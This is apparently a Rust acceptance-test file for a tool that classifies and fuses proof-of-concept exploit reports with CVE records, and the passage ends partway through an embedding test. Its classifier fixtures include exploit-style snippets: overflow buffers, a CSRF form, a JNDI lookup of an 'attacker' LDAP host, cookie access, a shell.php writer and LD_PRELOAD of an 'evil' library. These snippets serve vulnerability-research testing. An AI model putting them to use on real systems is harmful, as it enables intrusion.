//! Acceptance criteria, one PASS/FAIL line each. Run with
//! `cargo test --test acceptance`.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use pocfuse::classify::{categorize, LanguageId};
use pocfuse::complete::{replay, run_completion, CompletionConfig, CompletionRecord};
use pocfuse::corpus::{
    corpus_to_bytes, ingest_reports, load_corpus, Aspect, AspectValue, ContentKind, Corpus, CveDb, CveEntry,
    PocReport, Product, Provenance, SourceId,
};
use pocfuse::extract::{evaluate_extraction, extract_all, load_gold, PatternExtractor, RuleSet, Rules};
use pocfuse::link::{
    build_link_graph, build_pair_training_set, LinkBasis, PairKind, PairLabel, PocLink, SimilarityModels,
    SplitRatios, Thresholds,
};
use pocfuse::report::deficiency_stats;
use pocfuse::similarity::{
    cosine_sparse, text_tokens, tokenize_code, train_embeddings, EmbeddingModel, EmbeddingParams,
};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

type Outcome = Result<String, String>;

fn check(cond: bool, msg: impl FnOnce() -> String) -> Result<(), String> {
    if cond {
        Ok(())
    } else {
        Err(msg())
    }
}

fn manifest_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

// 1. Cosine against a dense brute-force oracle.

fn random_sparse(rng: &mut ChaCha8Rng) -> BTreeMap<u32, f64> {
    let nnz = rng.gen_range(0..=12);
    (0..nnz)
        .map(|_| (rng.gen_range(0..40u32), rng.gen_range(0.0..10.0f64)))
        .collect()
}

fn brute_cosine(a: &BTreeMap<u32, f64>, b: &BTreeMap<u32, f64>) -> Option<f64> {
    let mut da = [0.0f64; 40];
    let mut db = [0.0f64; 40];
    for (&k, &v) in a {
        da[k as usize] = v;
    }
    for (&k, &v) in b {
        db[k as usize] = v;
    }
    let mut dot = 0.0;
    let mut na = 0.0;
    let mut nb = 0.0;
    for i in 0..40 {
        dot += da[i] * db[i];
        na += da[i] * da[i];
        nb += db[i] * db[i];
    }
    if na == 0.0 || nb == 0.0 {
        None
    } else {
        Some(dot / (na * nb).sqrt())
    }
}

fn criterion_1() -> Outcome {
    let start = Instant::now();
    let mut rng = ChaCha8Rng::seed_from_u64(1);
    let mut worst = 0.0f64;
    for i in 0..1000 {
        let a = random_sparse(&mut rng);
        let b = random_sparse(&mut rng);
        let got = cosine_sparse(&a, &b);
        match brute_cosine(&a, &b) {
            None => check(got.degenerate && got.value == 0.0, || format!("pair {i}: zero vector not degenerate"))?,
            Some(want) => {
                worst = worst.max((got.value - want).abs());
                check((got.value - want).abs() <= 1e-9, || format!("pair {i}: {} vs {want}", got.value))?;
            }
        }
        check(cosine_sparse(&b, &a).value == got.value, || format!("pair {i}: asymmetric"))?;
        if !a.is_empty() {
            let self_sim = cosine_sparse(&a, &a).value;
            check((self_sim - 1.0).abs() <= 1e-9, || format!("pair {i}: self similarity {self_sim}"))?;
            let scaled: BTreeMap<u32, f64> = a.iter().map(|(&k, &v)| (k, v * 7.5)).collect();
            let s = cosine_sparse(&scaled, &b).value;
            check((s - got.value).abs() <= 1e-9, || format!("pair {i}: not scale invariant"))?;
        }
    }
    let elapsed = start.elapsed();
    check(elapsed < Duration::from_secs(5), || format!("took {elapsed:?}"))?;
    Ok(format!("1000 pairs, max abs error {worst:.2e}, {elapsed:.2?}"))
}

// 2. Tokenizer against a character-walk counter.

fn walk_tokens(s: &str) -> BTreeMap<String, u32> {
    let mut out = BTreeMap::new();
    let mut ident = String::new();
    let flush = |ident: &mut String, out: &mut BTreeMap<String, u32>| {
        if !ident.is_empty() {
            *out.entry(std::mem::take(ident)).or_insert(0) += 1;
        }
    };
    for c in s.chars() {
        if c.is_alphanumeric() || c == '_' {
            ident.push(c);
        } else {
            flush(&mut ident, &mut out);
            if !c.is_whitespace() {
                *out.entry(c.to_string()).or_insert(0) += 1;
            }
        }
    }
    flush(&mut ident, &mut out);
    out
}

fn random_snippet(rng: &mut ChaCha8Rng) -> String {
    const PIECES: &[&str] = &[
        "buf", "len", "x1", "_tmp", "main", "0x41", "42", "é", "λx", "数据", "(", ")", "{", "}", "[", "]", ";", ",",
        ".", "=", "==", "->", "::", "\"", "'", "$", "@", "#", "/*", "*/", "//", "+", "-", "*", "&", "|", "!", "<",
        ">", " ", " ", " ", "\t", "\n", "\r\n", "\u{a0}",
    ];
    let n = rng.gen_range(0..80);
    (0..n).map(|_| PIECES[rng.gen_range(0..PIECES.len())]).collect()
}

fn criterion_2() -> Outcome {
    let mut rng = ChaCha8Rng::seed_from_u64(2);
    for i in 0..500 {
        let s = random_snippet(&mut rng);
        let got = tokenize_code(&s, LanguageId::ALL[i % 9]);
        let want = walk_tokens(&s);
        check(got.entries() == &want, || format!("snippet {i} {s:?}: {:?} vs {want:?}", got.entries()))?;
    }
    Ok("500 snippets match".into())
}

// 3. Classification fixtures.

const CODE_FIXTURES: &[(LanguageId, &str)] = &[
    (LanguageId::CCpp, "#include <stdio.h>\n#include <string.h>\nint main(int argc, char **argv) {\n    char buf[256];\n    strcpy(buf, argv[1]);\n    return 0;\n}\n"),
    (LanguageId::CCpp, "#include <sys/socket.h>\n#define PORT 21\nstruct sockaddr_in addr;\nvoid send_payload(int fd) {\n    memset(&addr, 0, sizeof(addr));\n}\n"),
    (LanguageId::Html, "<!DOCTYPE html>\n<html>\n<body>\n<form action=\"http://target/admin\" method=\"POST\">\n<input type=\"hidden\" name=\"role\" value=\"admin\">\n</form>\n</body>\n</html>\n"),
    (LanguageId::Html, "<html>\n<head><title>csrf</title></head>\n<body onload=\"document.forms[0].submit()\">\n<iframe src=\"http://victim/\"></iframe>\n</body>\n</html>\n"),
    (LanguageId::Java, "import java.net.Socket;\nimport java.io.*;\npublic class Exploit {\n    public static void main(String[] args) throws Exception {\n        Socket s = new Socket(args[0], 8080);\n        System.out.println(\"sent\");\n    }\n}\n"),
    (LanguageId::Java, "import javax.naming.InitialContext;\npublic class Jndi {\n    private static String url = \"ldap://attacker/a\";\n    public static void main(String[] argv) throws NamingException {\n        new InitialContext().lookup(url);\n    }\n}\n"),
    (LanguageId::JavaScript, "const http = require('http');\nconst body = JSON.stringify({ user: 'admin' });\nconst req = http.request({ host: process.argv[2] }, (res) => {\n  console.log(res.statusCode);\n});\nreq.end(body);\n"),
    (LanguageId::JavaScript, "var xhr = new XMLHttpRequest();\nfunction leak() {\n  xhr.open('GET', '/profile');\n  xhr.send();\n}\nwindow.onload = leak;\nconsole.log(document.cookie);\n"),
    (LanguageId::Perl, "#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\nmy $sock = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 110);\nprint $sock \"USER \" . \"A\" x 3000 . \"\\r\\n\";\n"),
    (LanguageId::Perl, "use warnings;\nuse LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nmy $res = $ua->get($ARGV[0]);\nif ($res->content =~ /root:/) { print \"vulnerable\\n\"; }\nsub banner { print \"poc\\n\"; }\n"),
    (LanguageId::Php, "<?php\n$url = $_GET['target'];\n$ch = curl_init($url);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\necho curl_exec($ch);\n?>\n"),
    (LanguageId::Php, "<?php\nfunction payload($cmd) {\n    return base64_encode($cmd);\n}\nfile_put_contents('shell.php', payload('id'));\necho \"done\";\n"),
    (LanguageId::Python, "#!/usr/bin/python\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.1', 110))\ns.send(b'PASS ' + b'A' * 2700)\n"),
    (LanguageId::Python, "import requests\nimport sys\n\ndef exploit(url):\n    r = requests.get(url + '/cgi-bin/test')\n    print(r.text)\n\nif __name__ == '__main__':\n    exploit(sys.argv[1])\n"),
    (LanguageId::Ruby, "require 'msf/core'\nclass MetasploitModule < Msf::Exploit::Remote\n  include Msf::Exploit::Remote::Tcp\n  def exploit\n    connect\n    sock.put('A' * 1024)\n  end\nend\n"),
    (LanguageId::Ruby, "#!/usr/bin/env ruby\nrequire 'socket'\ns = TCPSocket.new(ARGV[0], 21)\nputs s.gets\n[1, 2, 3].each do |i|\n  s.write(\"USER #{i}\\r\\n\")\nend\n"),
    (LanguageId::Shell, "#!/bin/bash\nTARGET=$1\nif [ -z \"$TARGET\" ]; then\n  echo \"usage: $0 host\"\nfi\ncurl -s \"http://$TARGET/cgi-bin/status\" | grep -i uid\n"),
    (LanguageId::Shell, "#!/bin/sh\nexport LD_PRELOAD=/tmp/evil.so\nfor i in $(seq 1 10); do\n  wget -q http://target/file$i\ndone\nchmod +x ./run\n"),
];

const PROSE_FIXTURES: &[&str] = &[
    "This vulnerability allows remote attackers to execute arbitrary code on affected installations. Authentication is not required to exploit it.",
    "A stack-based buffer overflow in the POP3 service lets an unauthenticated user crash the daemon by sending an overly long password.",
    "Steps to reproduce:\n1. Log in as an editor.\n2. Create a post whose title holds a script payload.\n3. View the post as an administrator.",
    "The vendor was notified on 2021-03-01 and released a patch two weeks later. Users should upgrade to the latest release.",
    "Expected output:\n    The server responds with the contents of the password file.\n\nReferences: https://example.org/advisory",
    "The include path is built from a request parameter without validation, so a remote user can print the contents of local files.",
];

fn classify_text(content: &str) -> ContentKind {
    let r = PocReport::new("f", SourceId::ExploitDb, content);
    categorize(&r).expect("unclassified input").content_kind
}

fn criterion_3() -> Outcome {
    let mut per_lang: BTreeMap<LanguageId, usize> = BTreeMap::new();
    for (i, (lang, code)) in CODE_FIXTURES.iter().enumerate() {
        let kind = classify_text(code);
        check(kind == ContentKind::Code(*lang), || format!("code fixture {i}: {kind:?}, wanted {lang:?}"))?;
        *per_lang.entry(*lang).or_default() += 1;
        for prose in PROSE_FIXTURES {
            let appended = format!("{code}\n{prose}\n");
            let k = classify_text(&appended);
            check(matches!(k, ContentKind::Code(_)), || format!("code fixture {i} flipped to {k:?} after prose"))?;
            let prepended = format!("{prose}\n\n{code}");
            let k = classify_text(&prepended);
            check(matches!(k, ContentKind::Code(_)), || format!("code fixture {i} flipped to {k:?} under prose"))?;
        }
    }
    check(
        per_lang.len() == 9 && per_lang.values().all(|&n| n >= 2),
        || format!("fixture coverage {per_lang:?}"),
    )?;
    for (i, prose) in PROSE_FIXTURES.iter().enumerate() {
        let kind = classify_text(prose);
        check(kind == ContentKind::Text, || format!("prose fixture {i}: {kind:?}"))?;
    }
    Ok(format!("{} code + {} prose fixtures", CODE_FIXTURES.len(), PROSE_FIXTURES.len()))
}

// 4. Extraction quality on the gold set.

fn criterion_4() -> Outcome {
    let start = Instant::now();
    let fixtures = manifest_dir().join("tests/fixtures");
    let ingested = ingest_reports(&fixtures.join("gold_reports.jsonl"), &SourceId::PacketStorm).map_err(|e| e.to_string())?;
    check(ingested.warnings.is_empty(), || format!("ingest warnings {:?}", ingested.warnings))?;
    let gold = load_gold(&fixtures.join("gold.jsonl")).map_err(|e| e.to_string())?;
    check(gold.len() >= 50, || format!("only {} gold records", gold.len()))?;
    let rules = Rules::new(&RuleSet::default()).map_err(|e| e.to_string())?;
    let mut reports = Vec::new();
    for r in ingested.items {
        let r = categorize(&r).map_err(|e| e.to_string())?;
        reports.push(extract_all(&r, &rules, &PatternExtractor).map_err(|e| e.to_string())?.report);
    }
    let predicted = Corpus::new(reports).map_err(|e| e.to_string())?;
    let covered: BTreeSet<Aspect> = gold.values().flat_map(|slots| slots.keys().copied()).collect();
    check(covered.len() == 8, || format!("gold covers only {covered:?}"))?;
    let score = evaluate_extraction(&gold, &predicted).map_err(|e| e.to_string())?;
    let (p, r) = (score.precision(), score.recall());
    let ref_p = score.slot(Aspect::Reference).precision();
    let pt_p = score.slot(Aspect::PublishTime).precision();
    let elapsed = start.elapsed();
    let summary = format!(
        "{} reports, precision {p:.3}, recall {r:.3}, reference precision {ref_p:.3}, publish_time precision {pt_p:.3}, {elapsed:.2?}",
        gold.len()
    );
    check(p >= 0.85 && r >= 0.75, || summary.clone())?;
    check(ref_p >= 0.9 && pt_p >= 0.9, || summary.clone())?;
    check(elapsed < Duration::from_secs(30), || summary.clone())?;
    Ok(summary)
}

// 5. CVE and PoC fusion on a hand-computed corpus.

fn report(id: &str, kind: ContentKind, cves: &[&str], software: &[&str], originals: &[(Aspect, &str)]) -> PocReport {
    let mut r = PocReport::new(id, SourceId::ExploitDb, format!("content of {id}"));
    r.content_kind = kind;
    for c in cves {
        r.add_cve_id(c).unwrap();
    }
    r.software = software.iter().map(|s| s.to_string()).collect();
    for (a, t) in originals {
        r.aspects.push(*a, AspectValue::original(t).unwrap());
    }
    r
}

fn fusion_fixture() -> (Corpus, CveDb, Vec<PocLink>) {
    use Aspect::*;
    let py = ContentKind::Code(LanguageId::Python);
    let corpus = Corpus::new(vec![
        report("r1", py, &["CVE-2020-0001"], &["SLMail"], &[(SoftwareVersion, "5.5"), (Title, "SLMail PASS overflow"), (Author, "muts")]),
        report("r2", ContentKind::Text, &["CVE-2020-0001"], &[], &[(TestPlatform, "Windows XP"), (Author, "jdoe"), (VerificationOracle, "Expected output: crash")]),
        report("r3", ContentKind::Code(LanguageId::Shell), &["CVE-2020-0002"], &["bash"], &[(Title, "shellshock probe")]),
        report("r4", ContentKind::Text, &["CVE-2020-0003"], &["nginx"], &[(Title, "nginx notes")]),
        report("r5", py, &["CVE-2020-0001"], &["SLMail"], &[(SoftwareVersion, "5.1"), (TriggerStep, "1. run\n2. check"), (PublishTime, "2003-05-07")]),
        report("r6", ContentKind::Text, &["CVE-2020-0001"], &[], &[(Title, "slmail advisory"), (Reference, "https://ex.org/a")]),
    ])
    .unwrap();
    let entry = |id: &str, product: &str, versions: &[&str], platforms: &[&str]| {
        (
            id.to_string(),
            CveEntry {
                cve_id: id.to_string(),
                products: vec![Product {
                    name: product.to_string(),
                    versions: versions.iter().map(|s| s.to_string()).collect(),
                }],
                platforms: platforms.iter().map(|s| s.to_string()).collect(),
            },
        )
    };
    let db: CveDb = [
        entry("CVE-2020-0001", "SLMail", &["5.1", "5.5"], &["Windows"]),
        entry("CVE-2020-0002", "bash", &["4.3"], &[]),
        entry("CVE-2020-0003", "httpd", &["2.4.49"], &["Linux"]),
    ]
    .into_iter()
    .collect();
    let shared = || LinkBasis::SharedCve {
        cve_id: "CVE-2020-0001".into(),
    };
    let links = vec![
        PocLink::new("r1", "r5", shared(), 0.80, PairKind::CodePair(LanguageId::Python)).unwrap(),
        PocLink::new("r6", "r2", shared(), 0.97, PairKind::TextPair).unwrap(),
    ];
    (corpus, db, links)
}

fn from_cve(id: &str) -> Provenance {
    Provenance::FromCve { cve_id: id.into() }
}

fn from_poc(donor: &str, similarity: f64) -> Provenance {
    Provenance::FromPoc {
        donor: donor.into(),
        similarity,
        basis: LinkBasis::SharedCve {
            cve_id: "CVE-2020-0001".into(),
        },
    }
}

type Cell = (String, Aspect, String, Provenance);

fn cells(corpus: &Corpus) -> Vec<Cell> {
    let mut out = Vec::new();
    for r in corpus.reports() {
        for a in Aspect::ALL {
            for v in r.aspects.get(a) {
                out.push((r.id.clone(), a, v.text().to_string(), v.provenance().clone()));
            }
        }
    }
    out
}

fn criterion_5() -> Outcome {
    use Aspect::*;
    let (corpus, db, links) = fusion_fixture();
    let run = run_completion(&corpus, &db, &links, &CompletionConfig::default()).map_err(|e| e.to_string())?;

    let c1 = from_cve("CVE-2020-0001");
    let c2 = from_cve("CVE-2020-0002");
    // Pass 1: r1 appends only 5.1; r2 and r6 name no software so take every
    // version; r3's entry has no platforms; r4's software does not match.
    // Pass 2 at 0.97 then 0.80, both directions, donors' originals only.
    let expected_records: Vec<(&str, Aspect, &str, Provenance)> = vec![
        ("r1", SoftwareVersion, "5.1", c1.clone()),
        ("r1", TestPlatform, "Windows", c1.clone()),
        ("r2", SoftwareVersion, "5.1", c1.clone()),
        ("r2", SoftwareVersion, "5.5", c1.clone()),
        ("r2", TestPlatform, "Windows", c1.clone()),
        ("r3", SoftwareVersion, "4.3", c2.clone()),
        ("r5", SoftwareVersion, "5.5", c1.clone()),
        ("r5", TestPlatform, "Windows", c1.clone()),
        ("r6", SoftwareVersion, "5.1", c1.clone()),
        ("r6", SoftwareVersion, "5.5", c1.clone()),
        ("r6", TestPlatform, "Windows", c1.clone()),
        ("r2", Title, "slmail advisory", from_poc("r6", 0.97)),
        ("r2", Reference, "https://ex.org/a", from_poc("r6", 0.97)),
        ("r6", VerificationOracle, "Expected output: crash", from_poc("r2", 0.97)),
        ("r6", Author, "jdoe", from_poc("r2", 0.97)),
        ("r1", TriggerStep, "1. run\n2. check", from_poc("r5", 0.80)),
        ("r1", PublishTime, "2003-05-07", from_poc("r5", 0.80)),
        ("r5", Title, "SLMail PASS overflow", from_poc("r1", 0.80)),
        ("r5", Author, "muts", from_poc("r1", 0.80)),
    ];
    let key = |t: &str, a: Aspect, v: &str, p: &Provenance| format!("{t}|{a:?}|{v}|{p:?}");
    let mut want: Vec<String> = expected_records.iter().map(|(t, a, v, p)| key(t, *a, v, p)).collect();
    let mut got: Vec<String> = run
        .records
        .iter()
        .map(|r: &CompletionRecord| key(&r.target, r.slot, &r.value, &r.origin))
        .collect();
    want.sort();
    got.sort();
    check(got == want, || format!("records differ:\n got {got:#?}\nwant {want:#?}"))?;
    check(run.records.iter().all(|r| r.run_id == run.run_id), || "mixed run ids".into())?;

    let o = Provenance::Original;
    let cell = |t: &str, a: Aspect, v: &str, p: &Provenance| (t.to_string(), a, v.to_string(), p.clone());
    let want_cells: Vec<Cell> = vec![
        cell("r1", TriggerStep, "1. run\n2. check", &from_poc("r5", 0.80)),
        cell("r1", TestPlatform, "Windows", &c1),
        cell("r1", SoftwareVersion, "5.5", &o),
        cell("r1", SoftwareVersion, "5.1", &c1),
        cell("r1", Title, "SLMail PASS overflow", &o),
        cell("r1", Author, "muts", &o),
        cell("r1", PublishTime, "2003-05-07", &from_poc("r5", 0.80)),
        cell("r2", VerificationOracle, "Expected output: crash", &o),
        cell("r2", TestPlatform, "Windows XP", &o),
        cell("r2", TestPlatform, "Windows", &c1),
        cell("r2", SoftwareVersion, "5.1", &c1),
        cell("r2", SoftwareVersion, "5.5", &c1),
        cell("r2", Title, "slmail advisory", &from_poc("r6", 0.97)),
        cell("r2", Author, "jdoe", &o),
        cell("r2", Reference, "https://ex.org/a", &from_poc("r6", 0.97)),
        cell("r3", SoftwareVersion, "4.3", &c2),
        cell("r3", Title, "shellshock probe", &o),
        cell("r4", Title, "nginx notes", &o),
        cell("r5", TriggerStep, "1. run\n2. check", &o),
        cell("r5", TestPlatform, "Windows", &c1),
        cell("r5", SoftwareVersion, "5.1", &o),
        cell("r5", SoftwareVersion, "5.5", &c1),
        cell("r5", Title, "SLMail PASS overflow", &from_poc("r1", 0.80)),
        cell("r5", Author, "muts", &from_poc("r1", 0.80)),
        cell("r5", PublishTime, "2003-05-07", &o),
        cell("r6", VerificationOracle, "Expected output: crash", &from_poc("r2", 0.97)),
        cell("r6", TestPlatform, "Windows", &c1),
        cell("r6", SoftwareVersion, "5.1", &c1),
        cell("r6", SoftwareVersion, "5.5", &c1),
        cell("r6", Title, "slmail advisory", &o),
        cell("r6", Author, "jdoe", &from_poc("r2", 0.97)),
        cell("r6", Reference, "https://ex.org/a", &o),
    ];
    let got_cells = cells(&run.corpus);
    check(got_cells == want_cells, || format!("enriched corpus differs:\n got {got_cells:#?}\nwant {want_cells:#?}"))?;
    Ok(format!("{} records and {} slot values as hand-computed", want.len(), want_cells.len()))
}

// 6. Threshold behavior.

fn code_report(id: &str, cve: &str, body: &str) -> PocReport {
    let mut r = PocReport::new(id, SourceId::Seebug, body);
    r.content_kind = ContentKind::Code(LanguageId::Python);
    r.add_cve_id(cve).unwrap();
    r
}

fn text_report(id: &str, cve: &str, body: &str) -> PocReport {
    let mut r = PocReport::new(id, SourceId::PacketStorm, body);
    r.content_kind = ContentKind::Text;
    r.add_cve_id(cve).unwrap();
    r
}

fn repeat(words: &[(&str, usize)]) -> String {
    words
        .iter()
        .flat_map(|(w, n)| std::iter::repeat_n(*w, *n))
        .collect::<Vec<_>>()
        .join(" ")
}

fn mean_vector(model: &EmbeddingModel, content: &str) -> Vec<f64> {
    let mut sum = vec![0.0; model.dim()];
    let mut n = 0;
    for t in text_tokens(content) {
        if let Some(v) = model.vector(&t) {
            for (s, x) in sum.iter_mut().zip(v) {
                *s += *x as f64;
            }
            n += 1;
        }
    }
    sum.iter().map(|s| s / n.max(1) as f64).collect()
}

fn dense_cosine(a: &[f64], b: &[f64]) -> f64 {
    let dot: f64 = a.iter().zip(b).map(|(x, y)| x * y).sum();
    let na: f64 = a.iter().map(|x| x * x).sum::<f64>().sqrt();
    let nb: f64 = b.iter().map(|x| x * x).sum::<f64>().sqrt();
    dot / (na * nb)
}

fn count_cosine(a: &str, b: &str) -> f64 {
    let ca = walk_tokens(a);
    let cb = walk_tokens(b);
    let dot: f64 = ca.iter().map(|(k, v)| *v as f64 * *cb.get(k).unwrap_or(&0) as f64).sum();
    let n = |m: &BTreeMap<String, u32>| m.values().map(|v| (*v as f64).powi(2)).sum::<f64>().sqrt();
    dot / (n(&ca) * n(&cb))
}

const ADVISORY: &str = "the pop3 service of the mail server crashes when a long password is sent after the user command because the buffer is copied without a length check";
const ADVISORY_DUP: &str = "the pop3 service of the mail server crashes when a long password is sent after the user command because the buffer is copied with no length check";
const UNRELATED: &str = "an editor can store a script in the post title which runs in the browser of an administrator who opens the post list page";

fn criterion_6() -> Outcome {
    // Code pairs: 20/41 = 0.4878 and 25/sqrt(41*50) = 0.5522.
    let a = repeat(&[("send", 5), ("recv", 4)]);
    let below = repeat(&[("send", 4), ("close", 5)]);
    let above = repeat(&[("send", 5), ("close", 5)]);
    let corpus = Corpus::new(vec![
        code_report("c1", "CVE-2021-0001", &a),
        code_report("c2", "CVE-2021-0001", &below),
        code_report("c3", "CVE-2021-0002", &a),
        code_report("c4", "CVE-2021-0002", &above),
        text_report("t1", "CVE-2021-0003", ADVISORY),
        text_report("t2", "CVE-2021-0003", ADVISORY_DUP),
        text_report("t3", "CVE-2021-0004", ADVISORY),
        text_report("t4", "CVE-2021-0004", UNRELATED),
    ])
    .unwrap();
    let mut texts = Vec::new();
    for _ in 0..20 {
        texts.extend([ADVISORY, ADVISORY_DUP, UNRELATED]);
    }
    let params = EmbeddingParams {
        dim: 32,
        min_count: 1,
        epochs: 10,
        ..EmbeddingParams::default()
    };
    let (model, _) = train_embeddings(&texts, &params).map_err(|e| e.to_string())?;
    let models = SimilarityModels {
        embeddings: Some(&model),
    };
    let thresholds = Thresholds::default();
    let graph = build_link_graph(&corpus, &models, None, &thresholds).map_err(|e| e.to_string())?;
    let linked: BTreeSet<(String, String)> = graph.links.iter().map(|l| (l.a.clone(), l.b.clone())).collect();

    let oracle = [
        ("c1", "c2", count_cosine(&a, &below), thresholds.code),
        ("c3", "c4", count_cosine(&a, &above), thresholds.code),
        ("t1", "t2", dense_cosine(&mean_vector(&model, ADVISORY), &mean_vector(&model, ADVISORY_DUP)), thresholds.text),
        ("t3", "t4", dense_cosine(&mean_vector(&model, ADVISORY), &mean_vector(&model, UNRELATED)), thresholds.text),
    ];
    let mut sides = BTreeMap::new();
    for (x, y, sim, thr) in oracle {
        let present = linked.contains(&(x.to_string(), y.to_string()));
        check(present == (sim >= thr), || format!("{x}-{y}: similarity {sim:.4}, threshold {thr}, linked {present}"))?;
        *sides.entry((thr.to_bits(), sim >= thr)).or_insert(0) += 1;
    }
    check(sides.len() == 4, || format!("fixture does not straddle both thresholds: {oracle:?}"))?;
    check(graph.links.len() == 2, || format!("unexpected links {:?}", graph.links))?;

    // Donations over a hand-made link set straddling both thresholds.
    let mut reports = Vec::new();
    let mut links = Vec::new();
    for (i, (sim, kind)) in [
        (0.49, PairKind::CodePair(LanguageId::Python)),
        (0.50, PairKind::CodePair(LanguageId::Python)),
        (0.51, PairKind::CodePair(LanguageId::Python)),
        (0.94, PairKind::TextPair),
        (0.95, PairKind::TextPair),
        (0.96, PairKind::TextPair),
    ]
    .into_iter()
    .enumerate()
    {
        let content_kind = match kind {
            PairKind::CodePair(l) => ContentKind::Code(l),
            PairKind::TextPair => ContentKind::Text,
        };
        let (t, d) = (format!("target{i}"), format!("donor{i}"));
        reports.push(report(&t, content_kind, &[], &[], &[]));
        reports.push(report(&d, content_kind, &[], &[], &[(Aspect::Author, "someone"), (Aspect::Title, "donor title")]));
        links.push(PocLink::new(&t, &d, LinkBasis::SharedCve { cve_id: "CVE-2021-0009".into() }, sim, kind).unwrap());
    }
    let corpus = Corpus::new(reports).unwrap();
    let db = CveDb::new();
    let run = run_completion(&corpus, &db, &links, &CompletionConfig::default()).map_err(|e| e.to_string())?;
    for (i, link) in links.iter().enumerate() {
        let thr = thresholds.for_kind(link.kind);
        let n = run.records.iter().filter(|r| r.target == format!("target{i}")).count();
        let want = if link.similarity >= thr { 2 } else { 0 };
        check(n == want, || format!("link at {} (threshold {thr}): {n} donations", link.similarity))?;
    }

    // Raising a threshold by 0.01 never adds records.
    let base = run.records.len();
    for (dc, dt) in [(0.01, 0.0), (0.0, 0.01), (0.01, 0.01)] {
        let config = CompletionConfig {
            code_threshold: 0.5 + dc,
            text_threshold: 0.95 + dt,
            ..CompletionConfig::default()
        };
        let n = run_completion(&corpus, &db, &links, &config).map_err(|e| e.to_string())?.records.len();
        check(n <= base, || format!("raising thresholds by ({dc}, {dt}) gave {n} > {base} records"))?;
    }
    let raised = Thresholds {
        code: 0.51,
        text: 0.96,
    };
    let c_corpus = mixed_corpus();
    let n0 = build_link_graph(&c_corpus, &models, None, &thresholds).map_err(|e| e.to_string())?.links.len();
    let n1 = build_link_graph(&c_corpus, &models, None, &raised).map_err(|e| e.to_string())?.links.len();
    check(n1 <= n0, || format!("raised thresholds gave {n1} > {n0} links"))?;
    Ok(format!(
        "links and donations appear iff similarity >= threshold; {base} donations at defaults"
    ))
}

fn mixed_corpus() -> Corpus {
    let bodies = [
        repeat(&[("send", 5), ("recv", 4)]),
        repeat(&[("send", 4), ("close", 5)]),
        repeat(&[("send", 5), ("close", 5)]),
        repeat(&[("send", 5), ("recv", 4), ("close", 1)]),
    ];
    let mut reports: Vec<PocReport> = bodies
        .iter()
        .enumerate()
        .map(|(i, b)| code_report(&format!("k{i}"), "CVE-2021-0005", b))
        .collect();
    reports.push(text_report("u1", "CVE-2021-0005", ADVISORY));
    reports.push(text_report("u2", "CVE-2021-0005", ADVISORY_DUP));
    Corpus::new(reports).unwrap()
}

// 7. Idempotence and replay.

fn demo_extracted() -> Result<(Corpus, CveDb, Vec<PocLink>), String> {
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    run_binary(&["run-all"], dir.path())?;
    let corpus = load_corpus(&dir.path().join("corpus.extract.json")).map_err(|e| e.to_string())?;
    let db = pocfuse::corpus::load_cve_db(&dir.path().join("cve.json")).map_err(|e| e.to_string())?;
    let text = fs::read_to_string(dir.path().join("links.jsonl")).map_err(|e| e.to_string())?;
    let links = pocfuse::link::links_from_jsonl(&dir.path().join("links.jsonl"), &text).map_err(|e| e.to_string())?;
    Ok((corpus, db, links))
}

fn criterion_7() -> Outcome {
    let (fixture, db, links) = fusion_fixture();
    let (demo, demo_db, demo_links) = demo_extracted()?;
    let mut notes = Vec::new();
    for (name, corpus, db, links) in [("fixture", fixture, db, links), ("demo", demo, demo_db, demo_links)] {
        let config = CompletionConfig::default();
        let first = run_completion(&corpus, &db, &links, &config).map_err(|e| e.to_string())?;
        check(!first.records.is_empty(), || format!("{name}: first run completed nothing"))?;
        let second = run_completion(&first.corpus, &db, &links, &config).map_err(|e| e.to_string())?;
        check(second.records.is_empty(), || format!("{name}: second run added {} records", second.records.len()))?;
        check(corpus_to_bytes(&second.corpus) == corpus_to_bytes(&first.corpus), || format!("{name}: second run changed the corpus"))?;
        let replayed = replay(&corpus, &first.records).map_err(|e| e.to_string())?;
        check(corpus_to_bytes(&replayed) == corpus_to_bytes(&first.corpus), || format!("{name}: replay differs"))?;
        let originals = |c: &Corpus| -> Vec<Cell> { cells(c).into_iter().filter(|x| x.3 == Provenance::Original).collect() };
        check(originals(&corpus) == originals(&first.corpus), || format!("{name}: original values changed"))?;
        notes.push(format!("{name}: {} records", first.records.len()));
    }
    Ok(format!("{}; rerun adds 0, replay byte-identical", notes.join(", ")))
}

// 8. Embedding sanity.

fn toy_sentences() -> Vec<String> {
    let mut rng = ChaCha8Rng::seed_from_u64(8);
    let services = ["ftp", "mail", "web", "dns"];
    let fruit_verbs = ["ate", "peeled", "sliced", "bought"];
    (0..200)
        .map(|i| {
            if i % 2 == 0 {
                let w = if rng.gen_bool(0.5) { "crash" } else { "segfault" };
                format!(
                    "the {} server will {w} when the long buffer overflows the stack",
                    services[rng.gen_range(0..4)]
                )
            } else {
                let w = if rng.gen_bool(0.5) { "banana" } else { "mango" };
                format!("she {} a ripe {w} with honey at breakfast", fruit_verbs[rng.gen_range(0..4)])
            }
        })
        .collect()
}

fn criterion_8() -> Outcome {
    let sentences = toy_sentences();
    let params = EmbeddingParams {
        dim: 50,
        window: 3,
        negative_samples: 5,
        epochs: 5,
        learning_rate: 0.025,
        min_count: 1,
        seed: 7,
    };
    let (m1, r1) = train_embeddings(&sentences, &params).map_err(|e| e.to_string())?;
    let (m2, r2) = train_embeddings(&sentences, &params).map_err(|e| e.to_string())?;
    let l = &r1.epoch_losses;
    check(l.len() >= 3 && l[0] > l[1] && l[1] > l[2], || format!("epoch losses {l:?}"))?;
    check(m1.to_bytes() == m2.to_bytes(), || "same seed, different models".into())?;
    check(
        r1.epoch_losses.iter().map(|x| x.to_bits()).eq(r2.epoch_losses.iter().map(|x| x.to_bits())),
        || "same seed, different losses".into(),
    )?;
    let syn = m1.word_similarity("crash", "segfault").ok_or("missing synonym")?;
